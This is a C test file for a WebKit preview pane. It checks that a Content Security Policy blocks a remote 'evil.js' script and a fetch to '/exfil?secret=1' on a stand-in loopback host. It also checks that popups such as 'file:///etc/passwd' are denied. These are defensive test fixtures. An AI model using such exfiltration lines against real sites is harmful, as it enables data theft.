/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>
#include <unistd.h>

#include <glib/gstdio.h>
#include <libsoup/soup.h>
#include <webkit/webkit.h>

#include "sero-preview-pane.h"
#include "sero-preview-pane-private.h"

/* The embedded preview against a page this test serves from 127.0.0.1
 * (issue 7), under Xvfb with a real WebKit web process.
 *
 * "Remote" origins are 127.0.0.2: not a source the CSP allows, so to the
 * page it is as foreign as any host on the internet, yet nothing leaves
 * the machine, and a second server listening there counts every request
 * that got past the policy (there must be none).
 *
 * The system browser is a fake: a desktop file for x-scheme-handler/http
 * and https in a private XDG_DATA_DIRS, made the default in a private
 * XDG_CONFIG_HOME's mimeapps.list, whose Exec appends each URL it is given
 * to a file. Sero opens URLs through GTK and GIO as it does on a desktop;
 * nothing in Sero is patched. */

#define WAIT_SECONDS 30

static char *tmp_dir;
static char *record_path;
static GPtrArray *audit_lines;

static SoupServer *server;     /* 127.0.0.1: the dev server */
static SoupServer *elsewhere;  /* 127.0.0.2: a foreign origin */
static guint server_port;
static guint elsewhere_port;
static guint elsewhere_hits;

/* Fake browser and logs */

static void
write_file (const char *path,
            const char *contents,
            int         mode)
{
  g_autoptr(GError) error = NULL;

  g_file_set_contents (path, contents, -1, &error);
  g_assert_no_error (error);
  g_assert_cmpint (g_chmod (path, mode), ==, 0);
}

/* Must run before GTK or GIO read any XDG variable: GLib caches them. */
static void
install_fake_browser (void)
{
  g_autofree char *data_dir = NULL;
  g_autofree char *apps_dir = NULL;
  g_autofree char *config_dir = NULL;
  g_autofree char *script_path = NULL;
  g_autofree char *script = NULL;
  g_autofree char *desktop_path = NULL;
  g_autofree char *desktop = NULL;
  g_autofree char *mimeapps_path = NULL;
  g_autofree char *data_dirs = NULL;
  g_autoptr(GError) error = NULL;

  tmp_dir = g_dir_make_tmp ("sero-preview-XXXXXX", &error);
  g_assert_no_error (error);

  data_dir = g_build_filename (tmp_dir, "data", NULL);
  apps_dir = g_build_filename (data_dir, "applications", NULL);
  config_dir = g_build_filename (tmp_dir, "config", NULL);
  g_assert_cmpint (g_mkdir_with_parents (apps_dir, 0700), ==, 0);
  g_assert_cmpint (g_mkdir_with_parents (config_dir, 0700), ==, 0);

  record_path = g_build_filename (tmp_dir, "opened.txt", NULL);
  write_file (record_path, "", 0600);

  script_path = g_build_filename (tmp_dir, "fake-browser.sh", NULL);
  script = g_strdup_printf ("#!/bin/sh\nprintf '%%s\\n' \"$1\" >> '%s'\n", record_path);
  write_file (script_path, script, 0700);

  desktop_path = g_build_filename (apps_dir, "sero-test-browser.desktop", NULL);
  desktop = g_strdup_printf ("[Desktop Entry]\n"
                             "Type=Application\n"
                             "Name=Sero Test Browser\n"
                             "Exec=%s %%u\n"
                             "MimeType=x-scheme-handler/http;x-scheme-handler/https;\n"
                             "NoDisplay=true\n",
                             script_path);
  write_file (desktop_path, desktop, 0600);

  mimeapps_path = g_build_filename (config_dir, "mimeapps.list", NULL);
  write_file (mimeapps_path,
              "[Default Applications]\n"
              "x-scheme-handler/http=sero-test-browser.desktop\n"
              "x-scheme-handler/https=sero-test-browser.desktop\n",
              0600);

  /* The system's data dirs stay after ours for icons and themes; our
   * mimeapps.list in XDG_CONFIG_HOME outranks any system default. */
  data_dirs = g_strdup_printf ("%s:/usr/local/share:/usr/share", data_dir);
  g_setenv ("XDG_DATA_DIRS", data_dirs, TRUE);
  g_setenv ("XDG_CONFIG_HOME", config_dir, TRUE);
  g_setenv ("XDG_DATA_HOME", data_dir, TRUE);
  g_unsetenv ("GTK_USE_PORTAL");
}

static char **
opened_urls (void)
{
  g_autofree char *contents = NULL;

  g_assert_true (g_file_get_contents (record_path, &contents, NULL, NULL));
  return g_strsplit_set (g_strstrip (contents), "\n", -1);
}

static gboolean
was_opened (const char *url)
{
  g_auto(GStrv) urls = opened_urls ();

  return g_strv_contains ((const char * const *) urls, url);
}

static void
record_log (const char     *domain,
            GLogLevelFlags  level,
            const char     *message,
            gpointer        user_data)
{
  g_ptr_array_add (audit_lines, g_strdup (message));
  g_printerr ("%s: %s\n", domain, message);
}

static gboolean
audited (const char *line)
{
  for (guint i = 0; i < audit_lines->len; i++)
    if (g_str_equal (g_ptr_array_index (audit_lines, i), line))
      return TRUE;

  return FALSE;
}

/* Waiting */

static gboolean
wait_for (gboolean (*condition) (gpointer),
          gpointer   data)
{
  gint64 deadline = g_get_monotonic_time () + WAIT_SECONDS * G_USEC_PER_SEC;

  while (!condition (data))
    {
      if (g_get_monotonic_time () > deadline)
        return FALSE;
      g_main_context_iteration (NULL, FALSE);
      g_usleep (2000);
    }

  return TRUE;
}

static void
spin (guint ms)
{
  gint64 until = g_get_monotonic_time () + ms * 1000;

  while (g_get_monotonic_time () < until)
    {
      g_main_context_iteration (NULL, FALSE);
      g_usleep (2000);
    }
}

static gboolean
url_was_opened (gpointer data)
{
  return was_opened (data);
}

static gboolean
line_was_audited (gpointer data)
{
  return audited (data);
}

/* WebKit processes that are descendants of this test (through bwrap when
 * WebKit sandboxes them). */

static int
parent_of (const char *pid)
{
  g_autofree char *path = g_build_filename ("/proc", pid, "stat", NULL);
  g_autofree char *stat = NULL;
  const char *after_name;
  int ppid = -1;

  if (!g_file_get_contents (path, &stat, NULL, NULL))
    return -1;

  /* "pid (comm) state ppid …"; comm may hold spaces and parentheses. */
  after_name = strrchr (stat, ')');
  if (after_name == NULL || sscanf (after_name, ") %*c %d", &ppid) != 1)
    return -1;

  return ppid;
}

static guint
count_webkit_processes (void)
{
  g_autoptr(GDir) proc = g_dir_open ("/proc", 0, NULL);
  int self = getpid ();
  const char *name;
  guint count = 0;

  g_assert_nonnull (proc);

  while ((name = g_dir_read_name (proc)) != NULL)
    {
      g_autofree char *cmdline_path = NULL;
      g_autofree char *cmdline = NULL;
      g_autofree char *program = NULL;
      int pid;

      if (!g_ascii_isdigit (name[0]))
        continue;

      cmdline_path = g_build_filename ("/proc", name, "cmdline", NULL);
      if (!g_file_get_contents (cmdline_path, &cmdline, NULL, NULL) || cmdline[0] == '\0')
        continue;

      program = g_path_get_basename (cmdline);
      if (!g_str_has_prefix (program, "WebKitWebProcess") && !g_str_has_prefix (program, "WebKitNetworkProcess"))
        continue;

      /* Walk up to us (or to init). */
      for (pid = parent_of (name); pid > 1; )
        {
          g_autofree char *pid_str = NULL;

          if (pid == self)
            {
              count++;
              break;
            }
          pid_str = g_strdup_printf ("%d", pid);
          pid = parent_of (pid_str);
        }
    }

  return count;
}

static gboolean
no_webkit_processes (gpointer data)
{
  return count_webkit_processes () == 0;
}

/* The dev server */

static const char index_page[] =
  "<!doctype html><html><head><meta charset=\"utf-8\"><title>Sero preview test page</title>\n"
  "<script>\n"
  "  window.violations = [];\n"
  "  document.addEventListener('securitypolicyviolation', e => {\n"
  "    window.violations.push(e.violatedDirective + ' ' + e.blockedURI);\n"
  "    report();\n"
  "  });\n"
  "  function report () {\n"
  "    const list = document.getElementById('status');\n"
  "    if (!list) return;\n"
  "    list.replaceChildren(...[\n"
  "      'CSP violations: ' + window.violations.length,\n"
  "      ...window.violations.map(v => '  blocked ' + v),\n"
  "      'remote script ran: ' + (window.evilRan === true),\n"
  "      'fetch to another origin: ' + window.fetchResult,\n"
  "      'loopback WebSocket: ' + window.wsResult,\n"
  "    ].map(t => { const li = document.createElement('li'); li.textContent = t; return li; }));\n"
  "  }\n"
  "</script>\n"
  "<style>body { font-family: sans-serif; margin: 2em; } li { font-family: monospace; }</style>\n"
  "</head><body>\n"
  "<h1>Sero preview test page</h1>\n"
  "<p>Served from 127.0.0.1 by test-preview-pane.</p>\n"
  "<ul id=\"status\"></ul>\n"
  "<script src=\"http://127.0.0.2:@ELSEWHERE@/evil.js\"></script>\n"
  "<script>\n"
  "  window.fetchResult = 'pending';\n"
  "  fetch('http://127.0.0.2:@ELSEWHERE@/exfil?secret=1')\n"
  "    .then(() => { window.fetchResult = 'loaded'; report(); },\n"
  "          () => { window.fetchResult = 'blocked'; report(); });\n"
  "  window.wsResult = 'pending';\n"
  "  const ws = new WebSocket('ws://127.0.0.1:@PORT@/ws');\n"
  "  ws.onopen = () => ws.send('ping');\n"
  "  ws.onmessage = e => { window.wsResult = e.data === 'ping' ? 'echoed' : 'wrong ' + e.data; ws.close(); report(); };\n"
  "  ws.onerror = () => { window.wsResult = 'error'; report(); };\n"
  "  report();\n"
  "</script>\n"
  "</body></html>\n";

/* Navigates away as soon as it loads: a script, not a person. */
static const char leaving_page[] =
  "<!doctype html><html><head><title>Leaving</title></head><body>\n"
  "<script>location.href = 'http://127.0.0.2:@ELSEWHERE@/by-script';</script>\n"
  "</body></html>\n";

static char *
expand (const char *page)
{
  g_autofree char *port = g_strdup_printf ("%u", server_port);
  g_autofree char *other = g_strdup_printf ("%u", elsewhere_port);
  g_autoptr(GString) text = g_string_new (page);

  g_string_replace (text, "@PORT@", port, 0);
  g_string_replace (text, "@ELSEWHERE@", other, 0);

  return g_string_free (g_steal_pointer (&text), FALSE);
}

static void
serve (SoupServer        *soup_server,
       SoupServerMessage *msg,
       const char        *path,
       GHashTable        *query,
       gpointer           user_data)
{
  const char *page = NULL;

  if (g_str_equal (path, "/"))
    page = index_page;
  else if (g_str_equal (path, "/leaving.html"))
    page = leaving_page;

  if (page != NULL)
    {
      g_autofree char *body = expand (page);

      soup_server_message_set_status (msg, SOUP_STATUS_OK, NULL);
      soup_server_message_set_response (msg, "text/html; charset=utf-8", SOUP_MEMORY_COPY, body, strlen (body));
      return;
    }

  if (g_str_equal (path, "/report.txt"))
    {
      SoupMessageHeaders *headers = soup_server_message_get_response_headers (msg);

      soup_message_headers_set_content_disposition (headers, "attachment", NULL);
      soup_server_message_set_status (msg, SOUP_STATUS_OK, NULL);
      soup_server_message_set_response (msg, "text/plain", SOUP_MEMORY_STATIC, "secret\n", 7);
      return;
    }

  soup_server_message_set_status (msg, SOUP_STATUS_NOT_FOUND, NULL);
}

static void
echo_message (SoupWebsocketConnection *connection,
              SoupWebsocketDataType    type,
              GBytes                  *message)
{
  soup_websocket_connection_send_message (connection, type, message);
}

static void
websocket_opened (SoupServer              *soup_server,
                  SoupServerMessage       *msg,
                  const char              *path,
                  SoupWebsocketConnection *connection,
                  gpointer                 user_data)
{
  g_object_ref (connection);
  g_signal_connect (connection, "message", G_CALLBACK (echo_message), NULL);
  g_signal_connect (connection, "closed", G_CALLBACK (g_object_unref), NULL);
}

static void
count_elsewhere (SoupServer        *soup_server,
                 SoupServerMessage *msg,
                 const char        *path,
                 GHashTable        *query,
                 gpointer           user_data)
{
  elsewhere_hits++;
  g_printerr ("127.0.0.2 was asked for %s\n", path);
  soup_server_message_set_status (msg, SOUP_STATUS_OK, NULL);
  soup_server_message_set_response (msg, "text/javascript", SOUP_MEMORY_STATIC,
                                    "window.evilRan = true;", 22);
}

static guint
listen_on (SoupServer *soup_server,
           const char *address,
           guint       port)
{
  g_autoptr(GInetAddress) inet = g_inet_address_new_from_string (address);
  g_autoptr(GSocketAddress) socket_address = g_inet_socket_address_new (inet, port);
  g_autoptr(GError) error = NULL;
  GSList *uris;
  guint bound;

  soup_server_listen (soup_server, socket_address, 0, &error);
  g_assert_no_error (error);

  uris = soup_server_get_uris (soup_server);
  bound = g_uri_get_port (uris->data);
  g_slist_free_full (uris, (GDestroyNotify) g_uri_unref);

  return bound;
}

static SoupServer *
dev_server_new (void)
{
  SoupServer *soup_server = soup_server_new (NULL, NULL);

  soup_server_add_handler (soup_server, NULL, serve, NULL, NULL);
  soup_server_add_websocket_handler (soup_server, "/ws", NULL, NULL, websocket_opened, NULL, NULL);

  return soup_server;
}

static void
start_servers (void)
{
  server = dev_server_new ();
  server_port = listen_on (server, "127.0.0.1", 0);

  elsewhere = soup_server_new (NULL, NULL);
  soup_server_add_handler (elsewhere, NULL, count_elsewhere, NULL, NULL);
  elsewhere_port = listen_on (elsewhere, "127.0.0.2", 0);
}

static char *
server_url (const char *path)
{
  return g_strdup_printf ("http://127.0.0.1:%u%s", server_port, path);
}

/* The pane in a window */

typedef struct
{
  GtkWindow       *window;
  SeroPreviewPane *pane;
  WebKitWebView   *view;
  guint            finished;
} Preview;

static void
load_changed_cb (WebKitWebView   *view,
                 WebKitLoadEvent  event,
                 Preview         *preview)
{
  if (event == WEBKIT_LOAD_FINISHED)
    preview->finished++;
}

static gboolean
preview_finished (gpointer data)
{
  Preview *preview = data;

  return preview->finished > 0;
}

static gboolean
window_mapped (gpointer data)
{
  return gtk_widget_get_mapped (data);
}

static Preview *
preview_open (void)
{
  Preview *preview = g_new0 (Preview, 1);

  preview->window = GTK_WINDOW (gtk_window_new ());
  gtk_window_set_default_size (preview->window, 900, 640);
  preview->pane = SERO_PREVIEW_PANE (sero_preview_pane_new ());
  gtk_window_set_child (preview->window, GTK_WIDGET (preview->pane));
  gtk_window_present (preview->window);
  g_assert_true (wait_for (window_mapped, preview->window));

  return preview;
}

static void
preview_load (Preview    *preview,
              const char *url)
{
  preview->finished = 0;
  sero_preview_pane_load (preview->pane, url);

  if (preview->view == NULL)
    {
      preview->view = WEBKIT_WEB_VIEW (_sero_preview_pane_get_web_view (preview->pane));
      g_assert_nonnull (preview->view);
      g_signal_connect (preview->view, "load-changed", G_CALLBACK (load_changed_cb), preview);
    }

  g_assert_true (wait_for (preview_finished, preview));
}

static void
preview_close (Preview *preview)
{
  if (preview->view != NULL)
    g_signal_handlers_disconnect_by_data (preview->view, preview);
  gtk_window_destroy (preview->window);
  g_free (preview);
}

typedef struct
{
  gboolean  done;
  char     *result;
} Eval;

static void
eval_done (GObject      *object,
           GAsyncResult *result,
           gpointer      user_data)
{
  Eval *eval = user_data;
  g_autoptr(JSCValue) value = NULL;
  g_autoptr(GError) error = NULL;

  value = webkit_web_view_evaluate_javascript_finish (WEBKIT_WEB_VIEW (object), result, &error);
  g_assert_no_error (error);
  eval->result = jsc_value_to_string (value);
  eval->done = TRUE;
}

static gboolean
eval_is_done (gpointer data)
{
  return ((Eval *) data)->done;
}

/* Runs a script in the page. WebKit runs it as if a person had clicked:
 * that is how the tests stand in for a user gesture. */
static char *
eval_js (Preview    *preview,
         const char *script)
{
  Eval eval = { 0 };

  webkit_web_view_evaluate_javascript (preview->view, script, -1, NULL, NULL, NULL, eval_done, &eval);
  g_assert_true (wait_for (eval_is_done, &eval));

  return eval.result;
}

typedef struct
{
  Preview    *preview;
  const char *expression;
  const char *expected;
} JsWait;

static gboolean
js_equals (gpointer data)
{
  JsWait *wait = data;
  g_autofree char *value = eval_js (wait->preview, wait->expression);

  return g_str_equal (value, wait->expected);
}

static void
assert_js_eventually (Preview    *preview,
                      const char *expression,
                      const char *expected)
{
  JsWait wait = { preview, expression, expected };

  if (!wait_for (js_equals, &wait))
    {
      g_autofree char *value = eval_js (preview, expression);

      g_error ("%s is “%s”, expected “%s”", expression, value, expected);
    }
}

/* Tests */

typedef struct
{
  SeroPreviewPane *pane;
} Lifecycle;

static gboolean
session_dropped (gpointer data)
{
  return _sero_preview_peek_network_session () == NULL;
}

static gboolean
webkit_running (gpointer data)
{
  return count_webkit_processes () > 0;
}

/* No web process before the first preview; one while it shows; none of
 * its session after the last preview closes. This one runs first. */
static void
test_lazy_lifecycle (void)
{
  g_autofree char *url = server_url ("/");
  Preview *preview;

  g_assert_cmpuint (count_webkit_processes (), ==, 0);
  g_assert_null (_sero_preview_peek_network_session ());

  preview = preview_open ();
  spin (500);
  g_assert_null (_sero_preview_pane_get_web_view (preview->pane));
  g_assert_cmpstr (_sero_preview_pane_get_visible_page (preview->pane), ==, "empty");
  g_assert_null (_sero_preview_peek_network_session ());
  g_assert_cmpuint (count_webkit_processes (), ==, 0);

  preview_load (preview, url);
  g_assert_nonnull (_sero_preview_peek_network_session ());
  g_assert_true (wait_for (webkit_running, NULL));
  g_assert_cmpstr (_sero_preview_pane_get_visible_page (preview->pane), ==, "web");

  preview_close (preview);
  g_assert_true (wait_for (session_dropped, NULL));
  g_assert_true (wait_for (no_webkit_processes, NULL));
}

/* Two panes share the one ephemeral session. */
static void
test_shared_session (void)
{
  g_autofree char *url = server_url ("/");
  Preview *first = preview_open ();
  Preview *second = preview_open ();
  WebKitNetworkSession *session;

  preview_load (first, url);
  preview_load (second, url);

  session = webkit_web_view_get_network_session (first->view);
  g_assert_true (session == webkit_web_view_get_network_session (second->view));
  g_assert_true (G_OBJECT (session) == _sero_preview_peek_network_session ());
  g_assert_true (webkit_network_session_is_ephemeral (session));
  g_assert_cmpstr (webkit_web_view_get_default_content_security_policy (first->view), !=, NULL);

  preview_close (first);
  spin (200);
  g_assert_nonnull (_sero_preview_peek_network_session ());
  preview_close (second);
  g_assert_true (wait_for (session_dropped, NULL));
}

/* A remote <script src> and a fetch() to another origin are stopped by
 * the CSP, each with a securitypolicyviolation event, and the foreign
 * server never hears of them; the loopback WebSocket works. */
static void
test_csp_and_websocket (void)
{
  g_autofree char *url = server_url ("/");
  g_autofree char *violations = NULL;
  Preview *preview = preview_open ();

  elsewhere_hits = 0;
  preview_load (preview, url);

  assert_js_eventually (preview, "window.fetchResult", "blocked");
  assert_js_eventually (preview, "window.wsResult", "echoed");
  assert_js_eventually (preview, "window.violations.length", "2");
  assert_js_eventually (preview, "window.evilRan === true", "false");

  violations = eval_js (preview, "window.violations.join('\\n')");
  g_assert_true (g_pattern_match_simple ("script-src* http://127.0.0.2:*/evil.js\nconnect-src http://127.0.0.2:*/exfil?secret=1", violations) ||
                 g_pattern_match_simple ("connect-src http://127.0.0.2:*/exfil?secret=1\nscript-src* http://127.0.0.2:*/evil.js", violations));
  g_assert_cmpuint (elsewhere_hits, ==, 0);

  preview_close (preview);
}

static void
test_popups (void)
{
  g_autofree char *url = server_url ("/");
  Preview *preview = preview_open ();
  static const char * const denied[] = {
    "javascript:document.title='popup ran'",
    "file:///etc/passwd",
    "data:text/html,<p>popup</p>",
  };

  preview_load (preview, url);

  for (guint i = 0; i < G_N_ELEMENTS (denied); i++)
    {
      g_autofree char *script = g_strdup_printf ("String(window.open(%s%s%s))", "\"", denied[i], "\"");
      g_autofree char *result = eval_js (preview, script);
      g_autofree char *line = g_strdup_printf ("[preview] denied popup %s", denied[i]);

      /* window.open() got no window back. */
      g_assert_cmpstr (result, ==, "null");
      g_assert_true (audited (line));
    }

  /* An http popup goes to the system browser: the fake one records it.
   * It comes after the denied ones, so once it is recorded, anything the
   * denied ones had launched would be recorded too. */
  g_free (eval_js (preview, "String(window.open('http://example.com/from-window-open'))"));
  g_assert_true (wait_for (url_was_opened, (gpointer) "http://example.com/from-window-open"));
  g_assert_true (audited ("[preview] opened externally http://example.com/from-window-open"));

  {
    g_auto(GStrv) urls = opened_urls ();

    g_assert_cmpuint (g_strv_length (urls), ==, 1);
  }

  /* The page itself is untouched: no javascript: popup ran in it. */
  g_assert_cmpstr (webkit_web_view_get_title (preview->view), ==, "Sero preview test page");
  g_assert_cmpstr (webkit_web_view_get_uri (preview->view), ==, url);

  preview_close (preview);
}

/* A click (here: script run as a gesture) away from the dev server opens
 * the browser and the preview stays; a page's own script going elsewhere
 * is just denied. */
static void
test_navigation (void)
{
  g_autofree char *url = server_url ("/");
  g_autofree char *leaving = server_url ("/leaving.html");
  g_autofree char *away = g_strdup_printf ("http://127.0.0.2:%u/clicked", elsewhere_port);
  g_autofree char *by_script = g_strdup_printf ("http://127.0.0.2:%u/by-script", elsewhere_port);
  g_autofree char *script = g_strdup_printf ("location.href = '%s'; 1", away);
  g_autofree char *clicked_line = g_strdup_printf ("[preview] opened externally %s", away);
  g_autofree char *denied_line = g_strdup_printf ("[preview] denied navigation %s", by_script);
  Preview *preview = preview_open ();

  elsewhere_hits = 0;
  preview_load (preview, url);

  g_free (eval_js (preview, script));
  g_assert_true (wait_for (url_was_opened, away));
  g_assert_true (audited (clicked_line));
  g_assert_cmpstr (webkit_web_view_get_uri (preview->view), ==, url);

  preview_load (preview, leaving);
  g_assert_true (wait_for (line_was_audited, denied_line));
  spin (300);
  g_assert_cmpstr (webkit_web_view_get_uri (preview->view), ==, leaving);
  g_assert_false (was_opened (by_script));

  /* Same origin is simply followed. */
  g_free (eval_js (preview, "location.href = '/'; 1"));
  g_assert_true (wait_for (preview_finished, preview));
  g_assert_cmpuint (elsewhere_hits, ==, 0);

  preview_close (preview);
}

static void
test_geolocation_denied (void)
{
  g_autofree char *url = server_url ("/");
  Preview *preview = preview_open ();

  preview_load (preview, url);

  g_free (eval_js (preview,
                   "window.geo = 'pending';"
                   "navigator.geolocation.getCurrentPosition("
                   "  () => window.geo = 'granted',"
                   "  e => window.geo = 'error ' + e.code); 1"));
  /* 1 is PERMISSION_DENIED. */
  assert_js_eventually (preview, "window.geo", "error 1");
  g_assert_true (audited ("[preview] denied permission geolocation"));

  preview_close (preview);
}

static void
test_download_refused (void)
{
  g_autofree char *url = server_url ("/");
  g_autofree char *report = server_url ("/report.txt");
  g_autofree char *line = g_strdup_printf ("[preview] refused download %s", report);
  Preview *preview = preview_open ();

  preview_load (preview, url);

  g_free (eval_js (preview, "location.href = '/report.txt'; 1"));
  g_assert_true (wait_for (line_was_audited, line));
  spin (300);
  g_assert_cmpstr (webkit_web_view_get_uri (preview->view), ==, url);

  preview_close (preview);
}

static gboolean
page_is (gpointer data)
{
  Preview *preview = data;
  const char *want = g_object_get_data (G_OBJECT (preview->pane), "want-page");

  return g_strcmp0 (_sero_preview_pane_get_visible_page (preview->pane), want) == 0;
}

/* A dev server that is not running shows the status page; Retry once it
 * is up shows the page. */
static void
test_unreachable_and_retry (void)
{
  g_autoptr(GSocket) probe = NULL;
  g_autoptr(GSocketAddress) local = NULL;
  g_autoptr(GInetAddress) loopback = g_inet_address_new_loopback (G_SOCKET_FAMILY_IPV4);
  g_autoptr(GSocketAddress) any_port = g_inet_socket_address_new (loopback, 0);
  g_autoptr(SoupServer) late = NULL;
  g_autofree char *url = NULL;
  Preview *preview;
  guint port;

  /* A port nothing listens on, until the test starts a server there. */
  probe = g_socket_new (G_SOCKET_FAMILY_IPV4, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_TCP, NULL);
  g_assert_true (g_socket_bind (probe, any_port, FALSE, NULL));
  local = g_socket_get_local_address (probe, NULL);
  port = g_inet_socket_address_get_port (G_INET_SOCKET_ADDRESS (local));
  g_socket_close (probe, NULL);
  url = g_strdup_printf ("http://127.0.0.1:%u/", port);

  preview = preview_open ();
  g_object_set_data (G_OBJECT (preview->pane), "want-page", (gpointer) "unreachable");
  sero_preview_pane_load (preview->pane, url);
  g_assert_true (wait_for (page_is, preview));

  late = dev_server_new ();
  g_assert_cmpuint (listen_on (late, "127.0.0.1", port), ==, port);

  g_object_set_data (G_OBJECT (preview->pane), "want-page", (gpointer) "web");
  g_assert_true (gtk_widget_activate_action (GTK_WIDGET (preview->pane), "preview.reload", NULL));
  g_assert_true (wait_for (page_is, preview));

  /* WebKit refuses ports of other protocols without a load-failed; the
   * pane still says the server cannot be shown. */
  g_object_set_data (G_OBJECT (preview->pane), "want-page", (gpointer) "unreachable");
  sero_preview_pane_load (preview->pane, "http://127.0.0.1:1/");
  g_assert_true (wait_for (page_is, preview));

  preview_close (preview);
  soup_server_disconnect (late);
}

static gboolean
results_shown (gpointer data)
{
  Preview *preview = data;
  g_autofree char *text = eval_js (preview, "document.getElementById('status').textContent");

  return strstr (text, "loopback WebSocket: echoed") != NULL && strstr (text, "CSP violations: 2") != NULL;
}

/* The pane showing the test page with what the policy did, for people to
 * look at: preview-pane.png in the build folder. */
static void
test_screenshot (void)
{
  g_autofree char *url = server_url ("/");
  g_autofree char *path = g_build_filename (PREVIEW_TEST_BUILDDIR, "preview-pane.png", NULL);
  g_autoptr(GdkPaintable) paintable = NULL;
  g_autoptr(GtkSnapshot) snapshot = NULL;
  g_autoptr(GskRenderNode) node = NULL;
  g_autoptr(GdkTexture) texture = NULL;
  Preview *preview = preview_open ();
  int width, height;

  preview_load (preview, url);
  g_assert_true (wait_for (results_shown, preview));
  spin (500);

  width = gtk_widget_get_width (GTK_WIDGET (preview->window));
  height = gtk_widget_get_height (GTK_WIDGET (preview->window));
  paintable = gtk_widget_paintable_new (GTK_WIDGET (preview->window));
  snapshot = gtk_snapshot_new ();
  gdk_paintable_snapshot (paintable, GDK_SNAPSHOT (snapshot), width, height);
  node = gtk_snapshot_free_to_node (g_steal_pointer (&snapshot));
  g_assert_nonnull (node);
  texture = gsk_renderer_render_texture (gtk_native_get_renderer (GTK_NATIVE (preview->window)),
                                         node, &GRAPHENE_RECT_INIT (0, 0, width, height));
  g_assert_true (gdk_texture_save_to_png (texture, path));
  g_test_message ("Screenshot: %s", path);

  preview_close (preview);
}

int
main (int   argc,
      char *argv[])
{
  int status;

  install_fake_browser ();

  g_test_init (&argc, &argv, NULL);
  gtk_init ();

  audit_lines = g_ptr_array_new_with_free_func (g_free);
  g_log_set_handler ("sero-preview", G_LOG_LEVEL_MESSAGE | G_LOG_LEVEL_INFO, record_log, NULL);
  start_servers ();

  /* First: nothing may have started WebKit before it. */
  g_test_add_func ("/sero/preview/pane/lazy-lifecycle", test_lazy_lifecycle);
  g_test_add_func ("/sero/preview/pane/shared-session", test_shared_session);
  g_test_add_func ("/sero/preview/pane/csp-and-websocket", test_csp_and_websocket);
  g_test_add_func ("/sero/preview/pane/popups", test_popups);
  g_test_add_func ("/sero/preview/pane/navigation", test_navigation);
  g_test_add_func ("/sero/preview/pane/geolocation-denied", test_geolocation_denied);
  g_test_add_func ("/sero/preview/pane/download-refused", test_download_refused);
  g_test_add_func ("/sero/preview/pane/unreachable-and-retry", test_unreachable_and_retry);
  g_test_add_func ("/sero/preview/pane/screenshot", test_screenshot);

  status = g_test_run ();

  soup_server_disconnect (server);
  soup_server_disconnect (elsewhere);
  g_clear_object (&server);
  g_clear_object (&elsewhere);
  g_ptr_array_unref (audit_lines);

  return status;
}
